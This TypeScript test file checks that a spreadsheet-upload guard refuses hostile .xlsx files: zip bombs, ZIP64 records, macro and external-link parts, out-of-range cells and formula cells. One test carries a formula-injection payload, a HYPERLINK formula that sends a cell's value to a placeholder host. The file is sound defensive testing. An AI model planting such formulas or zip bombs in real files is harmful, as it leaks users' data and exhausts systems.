/**
 * Hostile packages, built here from a genuine form: zip bombs (honest and lying about their size),
 * ZIP64 markers, parts a form never has, cells far outside the form. Each is refused with a message
 * naming the file and the reason, and collectForm takes nothing from it; genuine files pass.
 */
import * as fs from 'fs';
import * as path from 'path';
import JSZip from 'jszip';
import ExcelJS from 'exceljs';
import { parseTeamCsv } from '../../src/domain/csv';
import { getFramework, getScale, library } from '../../src/domain/library';
import { findRole } from '../../src/domain/roles';
import { selfAssessmentForm } from '../../src/workbook/forms';
import { collectForm } from '../../src/xlsx/collect';
import {
  activePart,
  centralDirectory,
  checkPackage,
  FORM_LIMITS,
  UntrustedFileError,
  WORKBOOK_LIMITS,
} from '../../src/xlsx/guard';
import { loadXlsx } from '../../src/xlsx/read';
import { writeWorkbook } from '../../src/xlsx/write';
import { bombPart, craftZip, part, partsOf } from '../support/zipcraft';

const root = path.join(__dirname, '../..');
const team = parseTeamCsv(
  fs.readFileSync(path.join(root, 'data/sample/team.csv'), 'utf8'),
  'team.csv',
).records;
const scale = getScale();
const worker = team[0];
const ctx = { team, frameworks: library().frameworks, scale, periods: ['2026 Q4'] };
const MB = 1024 * 1024;

let genuine: Uint8Array;
beforeAll(async () => {
  genuine = await writeWorkbook(
    selfAssessmentForm({
      worker,
      period: '2026 Q4',
      framework: getFramework('samhsa-core-2015'),
      scale,
      role: findRole(library().roles, worker.role),
    }),
  );
});

/** The genuine form with its first worksheet replaced (or parts added). */
async function tampered(edit: (parts: Awaited<ReturnType<typeof partsOf>>) => Promise<void> | void) {
  const parts = await partsOf(genuine);
  await edit(parts);
  return craftZip(parts);
}

async function refusal(bytes: Uint8Array, limits = FORM_LIMITS): Promise<string> {
  const err = await checkPackage(bytes, 'returned.xlsx', limits).then(
    () => null,
    (e: Error) => e,
  );
  expect(err).toBeInstanceOf(UntrustedFileError);
  return err!.message;
}

describe('central directory', () => {
  test('lists every part of a genuine form with its true inflated size', async () => {
    const entries = centralDirectory(genuine, 'form.xlsx')!;
    const zip = await JSZip.loadAsync(genuine);
    const files = Object.values(zip.files).filter((f) => !f.dir);
    expect(
      entries
        .filter((e) => !e.name.endsWith('/'))
        .map((e) => e.name)
        .sort(),
    ).toEqual(files.map((f) => f.name).sort());
    for (const f of files) {
      const e = entries.find((x) => x.name === f.name)!;
      expect(e.declaredBytes).toBe((await f.async('nodebuffer')).length);
    }
  });

  test('bytes that are not a zip are left to the reader', async () => {
    expect(centralDirectory(Buffer.from('worker_id,name\nPS-1,Ann\n'), 'x.xlsx')).toBeNull();
    await expect(loadXlsx(Buffer.from('%PDF-1.7 not a workbook'), 'scan.xlsx')).rejects.toThrow(
      /^scan\.xlsx: not a readable \.xlsx workbook/,
    );
  });
});

describe('refused before anything inflates', () => {
  test('a form whose sheet declares 400 MB is refused from its directory alone', async () => {
    const bytes = await tampered(async (parts) => {
      const i = parts.findIndex((p) => p.name === 'xl/worksheets/sheet1.xml');
      parts[i] = await bombPart('xl/worksheets/sheet1.xml', 400 * MB, {
        head: '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
        tail: '</sheetData></worksheet>',
      });
    });
    expect(bytes.length).toBeLessThan(1.5 * MB); // the compressed file is small, as in the issue
    const message = await refusal(bytes);
    expect(message).toBe(
      'returned.xlsx: refused: its part "xl/worksheets/sheet1.xml" would inflate to 400 MB, more than a ' +
        'returned form ever holds (16 MB at most): it may be damaged or built to exhaust memory. Nothing ' +
        'was read from it.',
    );
    // collect reports it on the file and takes no rating
    const res = await collectForm(bytes, 'returned.xlsx', ctx);
    expect(res.ok).toBe(false);
    expect(res.ratings).toEqual([]);
    expect(res.report.problems[0].message).toMatch(
      /^refused: its part "xl\/worksheets\/sheet1.xml" would inflate/,
    );
  });

  test('parts that are each small but together too large are refused', async () => {
    const bytes = await tampered(async (parts) => {
      for (let i = 0; i < 3; i++) parts.push(await bombPart(`xl/media/image${i}.png`, 12 * MB));
    });
    expect(await refusal(bytes)).toMatch(
      /its parts would inflate to 36 MB together, more than a returned form/,
    );
  });

  test('a ZIP64 end record is refused', async () => {
    const parts = await partsOf(genuine);
    expect(await refusal(craftZip(parts, { zip64: true }))).toMatch(/refused: it is a ZIP64 package/);
  });
});

describe('a bomb that lies about its size', () => {
  test('is stopped as soon as it inflates past what it declared', async () => {
    const bytes = await tampered(async (parts) => {
      const i = parts.findIndex((p) => p.name === 'xl/worksheets/sheet1.xml');
      parts[i] = await bombPart('xl/worksheets/sheet1.xml', 64 * MB, { declaredBytes: 20_000 });
    });
    const message = await refusal(bytes);
    const stopped = /inflates past the 20 KB its directory declares \(stopped at (\d+) (KB|MB)\)/.exec(
      message,
    );
    expect(stopped).not.toBeNull();
    // stopped within one inflated chunk, far from the 64 MB it would inflate to (memory: npm run bench)
    expect(Number(stopped![1]) * (stopped![2] === 'MB' ? MB : 1024)).toBeLessThan(20 * MB);
  });

  test('a part that inflates to less than declared is reported as damaged', async () => {
    const bytes = await tampered((parts) => {
      const p = parts.find((x) => x.name === 'xl/styles.xml')!;
      p.declaredBytes += 100;
    });
    expect(await refusal(bytes)).toMatch(/its part "xl\/styles.xml" is damaged and cannot be inflated/);
  });
});

describe('parts a returned form never has', () => {
  test.each([
    ['xl/vbaProject.bin', 'macros (VBA)'],
    ['xl/externalLinks/externalLink1.xml', 'links to other workbooks (external links)'],
    ['xl/connections.xml', 'data connections'],
    ['xl/embeddings/oleObject1.bin', 'embedded (OLE) objects'],
    ['xl/activeX/activeX1.xml', 'ActiveX controls'],
    ['xl/macrosheets/sheet1.xml', 'Excel 4.0 macro sheets'],
  ])('%s is refused by name', async (name, what) => {
    expect(activePart(name)).toBe(what);
    const bytes = await tampered((parts) => void parts.push(part(name, 'x')));
    const message = await refusal(bytes);
    expect(message).toContain(`it holds ${what}, which a returned form never has`);
    expect((await collectForm(bytes, 'returned.xlsx', ctx)).ratings).toEqual([]);
  });

  test('several are all named; a team workbook reader does not refuse them', async () => {
    const bytes = await tampered((parts) => {
      parts.push(part('xl/vbaProject.bin', 'x'), part('xl/connections.xml', '<connections/>'));
    });
    expect(await refusal(bytes)).toContain('it holds macros (VBA), data connections, which');
    await expect(checkPackage(bytes, 'team.xlsx', WORKBOOK_LIMITS)).resolves.not.toBeNull();
  });

  test('ordinary part names are not mistaken for them', () => {
    for (const name of [
      'xl/worksheets/sheet1.xml',
      'xl/styles.xml',
      'xl/charts/chart1.xml',
      'docProps/app.xml',
    ])
      expect(activePart(name)).toBeNull();
  });
});

describe('cells far outside the form', () => {
  async function withCell(address: string): Promise<Buffer> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(genuine as unknown as ArrayBuffer);
    wb.worksheets.find((w) => w.state === 'visible')!.getCell(address).value = 'x';
    return Buffer.from(await wb.xlsx.writeBuffer());
  }

  test('a value at XFD1048576 is refused, naming the sheet and cell', async () => {
    const bytes = await withCell('XFD1048576');
    const err = await loadXlsx(bytes, 'returned.xlsx', FORM_LIMITS).catch((e: Error) => e);
    expect(err).toBeInstanceOf(UntrustedFileError);
    expect((err as Error).message).toMatch(
      /^returned\.xlsx: refused: sheet ".*" has a value in cell XFD1048576, far outside the area a returned form uses \(5000 rows, 100 columns at most\)/,
    );
    expect((await collectForm(bytes, 'returned.xlsx', ctx)).ok).toBe(false);
  });

  test('a note typed a little beside the table is fine', async () => {
    const bytes = await withCell('M80');
    await expect(loadXlsx(bytes, 'returned.xlsx', FORM_LIMITS)).resolves.toBeDefined();
  });
});

describe('formula cells in a returned form', () => {
  /** The form with `edit` applied to its visible sheet, saved as Excel would. */
  async function edited(edit: (ws: ExcelJS.Worksheet, row: (id: string) => number) => void): Promise<Buffer> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(genuine as unknown as ArrayBuffer);
    const ws = wb.worksheets.find((w) => w.state === 'visible')!;
    const row = (id: string) => {
      for (let r = 1; r <= ws.rowCount; r++) if (String(ws.getCell(r, 2).value) === id) return r;
      throw new Error(id);
    };
    edit(ws, row);
    return Buffer.from(await wb.xlsx.writeBuffer());
  }

  test('a formula in Self or Notes is reported with its cell and nothing is taken', async () => {
    let selfCell = '';
    let notesCell = '';
    const bytes = await edited((ws, row) => {
      ws.getCell(row('1.1'), 4).value = 3;
      ws.getCell(row('1.2'), 4).value = { formula: '1+3', result: 4 };
      ws.getCell(row('1.3'), 4).value = 2;
      ws.getCell(row('1.3'), 5).value = {
        formula: 'HYPERLINK("http://example.invalid/?leak="&B2,"see notes")',
        result: 'see notes',
      };
      selfCell = ws.getCell(row('1.2'), 4).address;
      notesCell = ws.getCell(row('1.3'), 5).address;
    });
    const res = await collectForm(bytes, 'returned.xlsx', ctx);
    expect(res.ok).toBe(false);
    expect(res.ratings).toEqual([]);
    expect(res.report.problems.map((p) => [p.cell, p.message])).toEqual([
      [selfCell, `${selfCell} holds a formula; type a value`],
      [notesCell, `${notesCell} holds a formula; type a value`],
    ]);
  });

  test('text that only looks like a formula is a value, kept exactly', async () => {
    const payload = '=HYPERLINK("http://example.invalid/?leak="&B2,"see notes")';
    const bytes = await edited((ws, row) => {
      ws.getCell(row('1.1'), 4).value = 4;
      ws.getCell(row('1.1'), 5).value = payload; // typed with a leading apostrophe: stored as text
    });
    const res = await collectForm(bytes, 'returned.xlsx', ctx);
    expect(res.report.problems).toEqual([]);
    expect(res.ratings.find((r) => r.competencyId === '1.1')!.notes).toBe(payload);
  });
});

describe('genuine files pass', () => {
  test('the form itself', async () => {
    await expect(checkPackage(genuine, 'form.xlsx', FORM_LIMITS)).resolves.not.toBeNull();
    const res = await collectForm(genuine, 'form.xlsx', ctx);
    expect(res.report.problems.filter((p) => /refused/.test(p.message))).toEqual([]);
  });
});
